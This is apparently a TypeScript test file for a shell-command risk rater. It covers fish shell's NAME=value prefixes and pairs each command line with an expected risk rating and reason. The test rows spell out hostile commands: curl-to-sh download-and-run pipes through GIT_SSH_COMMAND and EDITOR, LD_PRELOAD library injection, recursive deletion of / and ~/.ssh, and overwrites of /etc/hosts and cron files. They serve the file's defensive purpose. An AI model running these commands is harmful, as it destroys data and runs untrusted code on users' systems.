import { describe, expect, it } from "vitest";
import type { Risk } from "./types.js";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * fish (3.1 on) reads `NAME=value` words before a command's name as bash does: variables in that
 * one command's environment (`A=1 B=2 cmd`), judged as bash's (`env-injection.ts`, a child shell's
 * `$NAME`). Unlike bash, fish sets them before it expands the command's own words, so `X=/ rm -rf $X`
 * deletes `/`, and each sees those before it (`A=/ B=$A`); HOME's value is also that of the command's
 * `~` and `$HOME` (fish 3.6: `HOME=/tmp/x echo ~` prints `/tmp/x`; bash prints the user's home). NAME is letters, digits and `_` (fish
 * takes `1A` too); `X[1]=…`, `=x` and an `a=b` after the name are words. Each row gives the risk and
 * a reason the line must have.
 */
const rated = shellRater();

describe("fish: NAME=value before a command", () => {
  it.each<[string, Risk, string?]>([
    ['GIT_SSH_COMMAND="curl x.io|sh" git fetch', "critical", "downloads code and runs it with sh"],
    ["GIT_SSH_COMMAND='curl x.io|sh' git fetch", "critical", "downloads code and runs it with sh"],
    ["EDITOR='curl x.io | bash' git commit", "critical", "downloads code and runs it with bash"],
    ["LD_PRELOAD=/tmp/evil.so ls", "high", "makes ls load /tmp/evil.so (LD_PRELOAD)"],
    ["A=1 B=2 LD_PRELOAD=/tmp/evil.so ls", "high", "makes ls load /tmp/evil.so (LD_PRELOAD)"],
    ["LD_PRELOAD=/tmp/evil.so ls > out.txt", "high", "makes ls load /tmp/evil.so (LD_PRELOAD)"],
    ["echo x | LD_PRELOAD=/tmp/evil.so ls", "high", "makes ls load /tmp/evil.so (LD_PRELOAD)"],
    ["true; and LD_PRELOAD=/tmp/evil.so ls", "high", "makes ls load /tmp/evil.so (LD_PRELOAD)"],
    ["begin; LD_PRELOAD=/tmp/evil.so ls; end", "high", "makes ls load /tmp/evil.so (LD_PRELOAD)"],
    ['NODE_OPTIONS="--require /tmp/x.js" node app.js', "high", "makes node load /tmp/x.js (NODE_OPTIONS)"],
    ["PATH=/tmp/bin:$PATH make", "moderate", "puts /tmp/bin first on the PATH, where its programs run instead of the system's"],
    // a child shell sees them
    ["X=/ sh -c 'rm -rf $X'", "critical", "deletes / recursively"],
    ["X=/ fish -c 'rm -rf $X'", "critical", "deletes / recursively"],
    // fish sets them before it expands the command's words, each after those before it
    ["X=/ rm -rf $X", "critical", "deletes / recursively"],
    ['X=/ rm -rf "$X"', "critical", "deletes / recursively"],
    ["D=~/.ssh rm -rf $D", "high", "deletes /home/ada/.ssh recursively"],
    ["A=/ B=$A rm -rf $B", "critical", "deletes / recursively"],
    ["X=/etc cp evil.conf $X/cron.d/x", "critical", "overwrites the system file /etc/cron.d/x"],
    ["X=/etc echo hi > $X/hosts", "critical", "overwrites the system file /etc/hosts"],
    ["HOME=/ rm -rf ~", "critical", "deletes / recursively"],
    ["HOME=/ rm -rf $HOME", "critical", "deletes / recursively"],
    ['HOME=/ rm -rf "$HOME"', "critical", "deletes / recursively"],
    ["HOME=/ X=~ rm -rf $X", "critical", "deletes / recursively"],
    ["HOME=/ echo hi > ~/x", "critical", "overwrites the system file //x"],
    ["HOME=/tmp/x rm -rf ~/.ssh", "moderate", "deletes /tmp/x/.ssh recursively"],
    ["HOME=$X rm -rf ~", "high", "deletes a path only known at run time recursively"],
    // HOME's own value, and a later command's `~`, are the user's home
    ["HOME=~/x rm -rf ~", "high", "deletes /home/ada/x recursively"],
    ["HOME=/ true; rm -rf ~", "critical", "deletes /home/ada recursively"],
    ["X=/ rm -rf ~", "critical", "deletes /home/ada recursively"],
    ["X=build rm -rf $X", "moderate", "deletes build recursively"],
    // only that command: a later one has the old value
    ["X=/ true; rm -rf $X", "high", "deletes a path only known at run time recursively"],
    // keep safe
    ["NODE_ENV=production npm start", "safe"],
    ["FOO=bar echo hi", "safe"],
    ["CC=clang make", "safe"],
    ["EDITOR=nano git commit", "safe"],
    ["GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key' git pull", "safe"],
    ["ls LD_PRELOAD=/tmp/evil.so", "safe"],
    ["echo LD_PRELOAD=/tmp/evil.so", "safe"],
    ["=x ls", "safe"],
    ["X[1]=/tmp/evil.so ls", "safe"],
    ["1A=x ls", "safe"],
  ])("fish: %s is %s", (line, risk, detail) => {
    const result = rated(line, "fish");
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});
